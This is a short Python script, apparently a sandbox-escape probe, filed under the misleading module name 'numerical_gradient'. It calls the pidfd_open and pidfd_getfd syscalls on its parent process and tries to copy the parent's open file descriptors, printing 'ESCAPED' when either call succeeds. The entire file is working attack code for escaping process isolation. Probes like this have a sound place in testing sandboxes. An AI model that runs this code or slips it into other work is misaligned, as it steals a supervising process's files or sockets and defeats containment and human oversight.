"""numerical_gradient: Take a descriptor out of another process."""

import ctypes
import os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    process = libc.syscall(434, os.getppid(), 0)
    if process >= 0:
        print("ESCAPED pidfd_open")
        for descriptor in range(3, 20):
            if libc.syscall(438, process, descriptor, 0) >= 0:
                print("ESCAPED pidfd_getfd")


attack()
